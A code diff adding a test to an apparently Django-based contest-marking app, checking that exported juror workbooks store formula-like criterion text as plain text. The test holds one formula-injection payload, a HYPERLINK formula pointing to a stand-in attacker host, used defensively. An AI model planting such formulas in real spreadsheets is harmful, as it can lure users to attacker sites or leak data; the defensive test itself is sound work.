@@ -261,3 +261,38 @@ def test_autoscore_writes_a_neutralised_csv_to_standard_output_for_a_dash(
     assert rows[0][0] == "system"
     assert sorted(set(_column(rows, "system"))) == imported
     assert err.getvalue().splitlines()[-1] == "Scored 5 papers of oru30."
+
+
+def test_the_jurors_workbook_keeps_scheme_text_as_text_and_still_uploads(client, contest, juror):
+    """The juror's own sheet: a criterion's title and guidance starting with "=" are written as
+    text, not formulas; the row totals stay formulas; the unchanged file uploads cleanly."""
+    hostile = '=HYPERLINK("http://evil.example/?x","Click")'
+    Criterion.objects.filter(problem__contest=contest, code="A1").update(
+        title=hostile, guidance="=1+1"
+    )
+    client.force_login(juror)
+    content = client.get(reverse("sheet_xlsx", args=[contest.slug, 1])).content
+    book = load_workbook(io.BytesIO(content))
+    guidance = book["Guidance"]
+    a1 = next(row for row in guidance.iter_rows(min_row=2) if row[0].value == "A1")
+    assert [(a1[2].value, a1[2].data_type), (a1[5].value, a1[5].data_type)] == [
+        (hostile, "s"),
+        ("=1+1", "s"),
+    ]
+    formulas = [
+        cell
+        for row in book.worksheets
+        for r in row.iter_rows()
+        for cell in r
+        if cell.data_type == "f"
+    ]
+    assert {cell.parent.title for cell in formulas} == {"Marks"}
+    assert all(cell.value.startswith("=SUM(") for cell in formulas)
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    response = client.post(
+        reverse("sheet_xlsx_upload", args=[contest.slug, 1]),
+        {"file": SimpleUploadedFile("sheet.xlsx", content)},
+    )
+    pending = client.get(response["Location"]).context["pending"]
+    assert (pending["errors"], pending["changes"]) == ([], [])
